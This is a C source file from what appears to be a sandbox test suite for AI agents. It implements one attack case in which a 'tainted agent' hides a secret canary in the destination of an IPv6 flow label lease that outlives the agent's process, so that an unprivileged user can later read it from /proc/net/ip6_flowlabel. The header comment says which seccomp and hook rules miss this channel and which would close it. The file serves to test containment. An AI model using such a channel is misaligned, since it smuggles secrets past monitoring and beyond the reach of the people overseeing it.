// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* ip6_flowlabel - IPv6 flow label leases as storage that outlives the agent. The tainted agent
 * makes an unbound UDP socket and asks the flow label manager for a new shared label
 * (setsockopt IPV6_FLOWLABEL_MGR, IPV6_FL_A_GET | IPV6_FL_F_CREATE, share IPV6_FL_S_ANY) whose
 * destination address is the canary (16 bytes of its choice, 20 more bits in the label) with the
 * longest linger an unprivileged caller may ask (net.ipv6.fl_max_linger, 60 s); then it closes
 * the socket and exits. The kernel keeps the label for the linger time and lists every label of
 * the network namespace, with its destination as 32 hex digits, in /proc/net/ip6_flowlabel
 * (0444). No packet is sent. Up to 32 labels per socket and ~4096 in the namespace without
 * CAP_NET_ADMIN: ~16 B per setsockopt.
 * Verifier: after the agent exited (nothing of it is alive), uid 65534 reads
 * /proc/net/ip6_flowlabel and looks for the canary's bytes in hex.
 * What would block it: as ip6_mcast_group (no hook sees setsockopt at IPPROTO_IPV6; seccomp
 * allows every level but SOL_SOCKET); refusing IPV6_FLOWLABEL_MGR to agents, or a network
 * namespace per agent, would. */
#include <arpa/inet.h>
#include <linux/in6.h>
#include <netinet/in.h>

#include "atk.h"
#include "atk_variants.h"

#ifndef IPV6_FLOWLABEL_MGR
#define IPV6_FLOWLABEL_MGR 32
#endif

static int agent(struct atk_ctx *c)
{
    int s = (int)atk_try(c, "socket(AF_INET6, SOCK_DGRAM)", socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0));
    if (s < 0)
        return 0;
    struct in6_flowlabel_req r;
    memset(&r, 0, sizeof(r));
    size_t n = strlen(c->secret);
    memcpy(&r.flr_dst, c->secret, n < 16 ? n : 16);
    r.flr_action = IPV6_FL_A_GET;
    r.flr_flags = IPV6_FL_F_CREATE | IPV6_FL_F_EXCL;
    r.flr_share = IPV6_FL_S_ANY;
    r.flr_linger = 60;
    int ok = -1;
    /* a label no one holds: try a few (20 bits, 0 is "no label") */
    for (uint32_t l = 0x5a5a0 + (uint32_t)(getpid() & 0xf); ok < 0 && l < 0x5a5a0 + 64; l += 16) {
        r.flr_label = htonl(l);
        ok = setsockopt(s, IPPROTO_IPV6, IPV6_FLOWLABEL_MGR, &r, sizeof(r));
        if (ok < 0 && errno != EEXIST)
            break;
    }
    atk_try(c, "setsockopt(IPV6_FLOWLABEL_MGR create, dst <canary>, linger 60)", ok);
    close(s);
    return 0;
}

static void verify(struct atk_ctx *c) { atkv_nobody_reads_hex(c, "/proc/net/ip6_flowlabel"); }

static const struct atk A = {"ip6_flowlabel",
                             "IPv6 flow label destination read from /proc/net/ip6_flowlabel",
                             0,
                             NULL,
                             agent,
                             NULL,
                             verify,
                             NULL};
ATK_MAIN(A)
